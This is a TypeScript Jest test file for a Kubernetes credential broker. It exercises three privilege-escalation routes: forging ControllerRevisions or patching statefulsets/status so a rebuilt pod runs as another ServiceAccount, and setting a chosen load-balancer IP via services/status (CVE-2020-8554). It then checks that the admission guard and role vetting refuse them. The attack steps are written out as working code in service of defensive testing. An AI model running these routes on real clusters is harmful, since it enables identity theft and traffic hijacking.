// The controller route (issue 24), on the real control plane, whose kube-controller-manager runs the
// StatefulSet controller (pods are objects there even without a node). The admission guard checks the
// templates a grant writes; a StatefulSet controller rebuilds a deleted pod from the ControllerRevision
// its status names, under its own identity. So a grant that may write ControllerRevisions (or
// statefulsets/status) gets a pod built from a template the guard never saw: here, one running as
// another live grant's ServiceAccount. services/status is the second form of CVE-2020-8554.
//
// Each route is shown working for a plain ServiceAccount with the same rights (the guard leaves other
// identities alone), so the test can tell a refusal from a route that does not exist; each is then
// refused for a grant identity by the guard, and the roles that would allow it are refused by the
// broker's vetting, at start and per grant.
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { ErrorResponse, ExchangeResponse } from '../../src/shared/api.js';
import { parsePolicy } from '../../src/broker/policy/index.js';
import {
  applyClusterRole,
  freshNamespace,
  kubectl,
  kubectlAdmin,
  rbacApi,
  uniqueName,
  waitFor,
} from '../../test/support/cluster.js';
import { startBrokerEnv, type BrokerEnv } from '../../test/support/fixture.js';
import type { InProcessBroker } from '../../test/support/in-process-broker.js';
import { policyYaml } from '../../test/support/policy.js';
import { grantName, identities } from './support/identities.js';

/** Each route waits on the controller manager more than once: kubectl calls, watches, a rebuilt pod. */
const ROUTE_TIMEOUT_MS = 120_000;

type Manifest = Record<string, unknown>;
const GUARD = /ValidatingAdmissionPolicy 'k8s-ea-grant-guard'/;

/** What each route needs beyond a deployer's rights, as a role would grant it. */
const ROUTE_RULES = {
  revisions: {
    apiGroups: ['apps'],
    resources: ['controllerrevisions'],
    verbs: ['get', 'list', 'create', 'delete'],
  },
  stsStatus: { apiGroups: ['apps'], resources: ['statefulsets/status'], verbs: ['get', 'patch', 'update'] },
  svcStatus: { apiGroups: [''], resources: ['services/status'], verbs: ['get', 'patch', 'update'] },
};
const DEPLOYER_RULES = [
  { apiGroups: ['apps'], resources: ['statefulsets'], verbs: ['get', 'list', 'create', 'update', 'patch'] },
  { apiGroups: [''], resources: ['pods'], verbs: ['get', 'list', 'delete'] },
  { apiGroups: [''], resources: ['services'], verbs: ['get', 'create', 'update', 'patch'] },
];

const ids = identities();
let ns: { name: string; remove: () => Promise<void> };
let grant: string; // kubeconfig of a grant identity (gha-<32 hex>) whose role allows every route
let plain: string; // kubeconfig of a plain ServiceAccount with the same role
let victim: string; // another live grant's ServiceAccount in the namespace

beforeAll(async () => {
  ns = await freshNamespace('ctl-route');
  await rbacApi().createNamespacedRole({
    namespace: ns.name,
    body: { metadata: { name: 'routes' }, rules: [...DEPLOYER_RULES, ...Object.values(ROUTE_RULES)] },
  });
  grant = await ids.make(ns.name, grantName(), [['Role', 'routes']]);
  plain = await ids.make(ns.name, uniqueName('ci-bot'), [['Role', 'routes']]);
  victim = grantName();
  await ids.make(ns.name, victim, []);
});
afterAll(async () => {
  ids.cleanup();
  await ns?.remove();
});

const as = (kubeconfig: string, args: string[], input?: Manifest) =>
  kubectl(kubeconfig, ['-n', ns.name, ...args], input && JSON.stringify(input));
const admin = (args: string[], input?: Manifest) =>
  kubectlAdmin(['-n', ns.name, ...args], input && JSON.stringify(input));
const getJson = <T>(kind: string, name: string): T =>
  JSON.parse(admin(['get', kind, name, '-o', 'json'])) as T;

interface Pod {
  metadata: { uid: string };
  spec: { serviceAccountName: string; containers: { image: string }[] };
}
interface StatefulSet {
  metadata: { uid: string; generation: number };
  status?: { currentRevision?: string; updateRevision?: string; observedGeneration?: number };
}
interface Revision {
  metadata: { name: string; labels: Record<string, string>; ownerReferences: Record<string, unknown>[] };
  revision: number;
}

const container = (image = 'registry.invalid/app:1') => ({ name: 'app', image });
/** A StatefulSet whose pods below `partition` are rebuilt from the current revision, not the spec. */
const statefulSet = (name: string, replicas: number, partition: number, spec: Manifest): Manifest => ({
  apiVersion: 'apps/v1',
  kind: 'StatefulSet',
  metadata: { name },
  spec: {
    serviceName: name,
    replicas,
    selector: { matchLabels: { app: name } },
    updateStrategy: { type: 'RollingUpdate', rollingUpdate: { partition } },
    template: { metadata: { labels: { app: name } }, spec },
  },
});
/** The template a forged revision carries: another grant's identity. */
const forgedSpec = () => ({ serviceAccountName: victim, containers: [container('evil.invalid/x:1')] });

const settledSet = (name: string) =>
  waitFor(`StatefulSet ${name} observed`, () => {
    const set = getJson<StatefulSet>('statefulset', name);
    return set.status?.observedGeneration === set.metadata.generation && set.status.currentRevision
      ? set
      : undefined;
  });
const podOf = (name: string) => {
  const r = kubectlAdmin(['-n', ns.name, 'get', 'pod', `${name}-0`, '-o', 'json', '--ignore-not-found']);
  return r.trim() === '' ? undefined : (JSON.parse(r) as Pod);
};

/** Deletes the set's pod as `actor`, then waits for the controller's new one. */
async function rebuiltPod(actor: string, name: string): Promise<Pod> {
  const before = await waitFor(`pod ${name}-0`, () => podOf(name));
  const deleted = as(actor, ['delete', 'pod', `${name}-0`, '--wait=false']);
  expect(deleted.stderr).toBe('');
  return waitFor(`pod ${name}-0 rebuilt`, () => {
    const pod = podOf(name);
    return pod && pod.metadata.uid !== before.metadata.uid ? pod : undefined;
  });
}

/** How often the forgery is tried while the set's controller keeps winning the race for the name. */
const FORGERY_ATTEMPTS = 5;

/**
 * The StatefulSet route: a set the actor may create (the guard checks its template), its current
 * revision replaced by one with the forged template, the pod deleted. Returns the rebuilt pod, or
 * the refusal kubectl printed at the first step that failed.
 */
async function forgedRevisionRoute(actor: string): Promise<Pod | { refused: string }> {
  const name = uniqueName('sts');
  const created = as(actor, ['apply', '-f', '-'], statefulSet(name, 1, 1, { containers: [container()] }));
  expect(created.stderr).toBe('');
  const set = await settledSet(name);
  const original = getJson<Revision>('controllerrevision', set.status!.currentRevision!);
  const forgery = {
    apiVersion: 'apps/v1',
    kind: 'ControllerRevision',
    metadata: {
      name: original.metadata.name,
      labels: original.metadata.labels,
      // The set stays its owner (so its controller uses it); blockOwnerDeletion left out, as an
      // attacker without rights on the set's finalizers would.
      ownerReferences: original.metadata.ownerReferences.map((ref) => ({
        ...ref,
        blockOwnerDeletion: undefined,
      })),
    },
    revision: original.revision,
    data: {
      spec: { template: { $patch: 'replace', metadata: { labels: { app: name } }, spec: forgedSpec() } },
    },
  };
  // The set's controller writes the deleted revision back (the same name: a hash of the template);
  // when it is quicker than the forgery's create, the attacker deletes and tries again.
  for (let attempt = 1; ; attempt += 1) {
    const deleted = as(actor, ['delete', 'controllerrevision', original.metadata.name, '--ignore-not-found']);
    if (deleted.status !== 0) return { refused: deleted.stderr };
    const forged = as(actor, ['create', '-f', '-'], forgery);
    if (forged.status === 0) break;
    if (!forged.stderr.includes('AlreadyExists') || attempt === FORGERY_ATTEMPTS)
      return { refused: forged.stderr };
  }
  return rebuiltPod(actor, name);
}

/**
 * The statefulsets/status variant: an admin's set whose history holds a template the guard would
 * refuse (it once ran as the victim's identity) and whose current revision is now a safe one. The
 * actor scales it with a partition (the guard passes: the spec's template is safe), points
 * status.currentRevision back at the old revision and deletes the pod.
 */
async function statusRevisionRoute(actor: string): Promise<Pod | { refused: string }> {
  const name = uniqueName('sts-old');
  admin(['apply', '-f', '-'], statefulSet(name, 0, 0, forgedSpec()));
  const old = (await settledSet(name)).status!.currentRevision!;
  // A merge patch, not apply: apply would leave the deprecated serviceAccount field the API server
  // filled in, and that fills serviceAccountName in again.
  const safeTemplate = { serviceAccountName: null, serviceAccount: null, containers: [container()] };
  admin([
    'patch',
    'statefulset',
    name,
    '--type=merge',
    '-p',
    JSON.stringify({ spec: { template: { spec: safeTemplate } } }),
  ]);
  await waitFor('the safe revision to be current', async () => {
    const set = await settledSet(name);
    return set.status!.currentRevision !== old ? true : undefined;
  });
  const scaled = as(actor, ['apply', '-f', '-'], statefulSet(name, 1, 1, { containers: [container()] }));
  expect(scaled.stderr).toBe('');
  const safe = await waitFor(`pod ${name}-0`, () => podOf(name));
  expect(safe.spec.serviceAccountName).toBe('default');
  const patched = as(actor, [
    'patch',
    'statefulset',
    name,
    '--subresource=status',
    '--type=merge',
    '-p',
    JSON.stringify({ status: { currentRevision: old } }),
  ]);
  if (patched.status !== 0) return { refused: patched.stderr };
  return rebuiltPod(actor, name);
}

/** services/status: a load-balancer address of the actor's choosing, which kube-proxy would route. */
function serviceStatusRoute(actor: string): { ip: string } | { refused: string } {
  const name = uniqueName('lb');
  const created = as(actor, ['apply', '-f', '-'], {
    apiVersion: 'v1',
    kind: 'Service',
    metadata: { name },
    spec: { type: 'LoadBalancer', selector: { app: name }, ports: [{ port: 80 }] },
  });
  expect(created.stderr).toBe('');
  const patched = as(actor, [
    'patch',
    'service',
    name,
    '--subresource=status',
    '--type=merge',
    '-p',
    JSON.stringify({ status: { loadBalancer: { ingress: [{ ip: '203.0.113.7' }] } } }),
  ]);
  if (patched.status !== 0) return { refused: patched.stderr };
  const svc = getJson<{ status: { loadBalancer: { ingress?: { ip: string }[] } } }>('service', name);
  return { ip: svc.status.loadBalancer.ingress?.[0]?.ip ?? '' };
}

/** The route worked for a grant: say what it got, so a failure on an old guard reads as the finding. */
const opened = (what: unknown) => `the route is open to a grant identity: ${JSON.stringify(what)}`;
function expectGuardRefused(result: object, message: RegExp): void {
  if (!('refused' in result)) throw new Error(opened(result));
  const refused = (result as { refused: string }).refused;
  expect(refused).toMatch(GUARD);
  expect(refused).toMatch(message);
}

describe('the routes exist: a plain ServiceAccount with the same rights takes each', () => {
  test(
    'a forged ControllerRevision: the StatefulSet controller rebuilds the pod as another grant',
    async () => {
      const pod = await forgedRevisionRoute(plain);
      expect(pod).toMatchObject({
        spec: {
          serviceAccountName: victim,
          containers: [expect.objectContaining({ image: 'evil.invalid/x:1' })],
        },
      });
    },
    ROUTE_TIMEOUT_MS,
  );

  test(
    'statefulsets/status pointing at an old revision: the pod is rebuilt from it',
    async () => {
      const pod = await statusRevisionRoute(plain);
      expect(pod).toMatchObject({ spec: { serviceAccountName: victim } });
    },
    ROUTE_TIMEOUT_MS,
  );

  test('services/status: a load-balancer address of its choosing', () => {
    expect(serviceStatusRoute(plain)).toEqual({ ip: '203.0.113.7' });
  });
});

describe('the admission guard refuses each to a grant identity, whatever its role allows', () => {
  test(
    'forging a ControllerRevision',
    async () => {
      expectGuardRefused(await forgedRevisionRoute(grant), /may not write ControllerRevisions/);
    },
    ROUTE_TIMEOUT_MS,
  );

  test(
    'statefulsets/status',
    async () => {
      expectGuardRefused(await statusRevisionRoute(grant), /may not write the status of statefulsets/);
    },
    ROUTE_TIMEOUT_MS,
  );

  test('services/status', () => {
    expectGuardRefused(serviceStatusRoute(grant), /may not write the status of services/);
  });
});

describe("the broker's vetting refuses roles that allow them", () => {
  let env: BrokerEnv;
  const EDITABLE = uniqueName('k8s-ea-test-routes');
  const ROLES = Object.fromEntries(
    Object.keys(ROUTE_RULES).map((route) => [route, uniqueName(`k8s-ea-test-${route.toLowerCase()}`)]),
  ) as Record<keyof typeof ROUTE_RULES, string>;
  const policyFor = (clusterRole: string) =>
    policyYaml({
      namespaces: [env.ns],
      roles: { app: { clusterRole } },
      rules: [{ roles: ['app'], maxTtlSeconds: 600 }],
    });

  beforeAll(async () => {
    env = await startBrokerEnv({
      namespaces: ['ctl-vetting'],
      rbac: { jobClusterRoles: [EDITABLE, ...Object.values(ROLES)] },
    });
    applyClusterRole(EDITABLE, DEPLOYER_RULES);
    for (const [route, name] of Object.entries(ROLES))
      applyClusterRole(name, [...DEPLOYER_RULES, ROUTE_RULES[route as keyof typeof ROUTE_RULES]]);
  });
  afterAll(async () => {
    kubectlAdmin(['delete', 'clusterrole', EDITABLE, ...Object.values(ROLES), '--ignore-not-found']);
    await env?.cleanup();
  });

  test.each([
    ['revisions', /rules\[3\] .*controllerrevisions.*: writes ControllerRevisions/],
    ['stsStatus', /rules\[3\] .*statefulsets\/status.*: writes StatefulSet status/],
    ['svcStatus', /rules\[3\] .*services\/status.*: writes Service status/],
  ] as const)('at start: a policy binding the %s role does not start', async (route, message) => {
    await expect(
      env.startInProcessBroker({ policy: parsePolicy(policyFor(ROLES[route]), 'policy.yaml') }),
    ).rejects.toThrow(message);
  });

  test(
    'per grant: the role edited to allow each route is refused (403 role_dangerous), then granted again',
    async () => {
      const broker: InProcessBroker = await env.startInProcessBroker({
        policy: parsePolicy(policyFor(EDITABLE), 'policy.yaml'),
      });
      const exchange = async () =>
        broker.request<ExchangeResponse & ErrorResponse>('POST', '/v1/exchange', {
          token: await env.issuer.sign(),
          body: { namespace: env.ns, role: 'app' },
        });
      expect((await exchange()).status).toBe(200);
      const verdicts = (msg: string) => broker.logLines.filter((l) => l.msg === msg).length;
      for (const [route, rule] of Object.entries(ROUTE_RULES)) {
        const refusedBefore = verdicts('named role refused: grants of it are refused');
        applyClusterRole(EDITABLE, [...DEPLOYER_RULES, rule]);
        await waitFor(`the broker to see ${route}`, () =>
          verdicts('named role refused: grants of it are refused') > refusedBefore ? true : undefined,
        );
        const refused = await exchange();
        expect(refused.status).toBe(403);
        expect(broker.auditLines).toContainEqual(
          expect.objectContaining({ requestId: refused.headers['x-request-id'], reason: 'role_dangerous' }),
        );
        const grantedBefore = verdicts('named role may be granted again');
        applyClusterRole(EDITABLE, DEPLOYER_RULES);
        await waitFor('the broker to see the restore', () =>
          verdicts('named role may be granted again') > grantedBefore ? true : undefined,
        );
        expect((await exchange()).status).toBe(200);
      }
    },
    ROUTE_TIMEOUT_MS,
  );
});
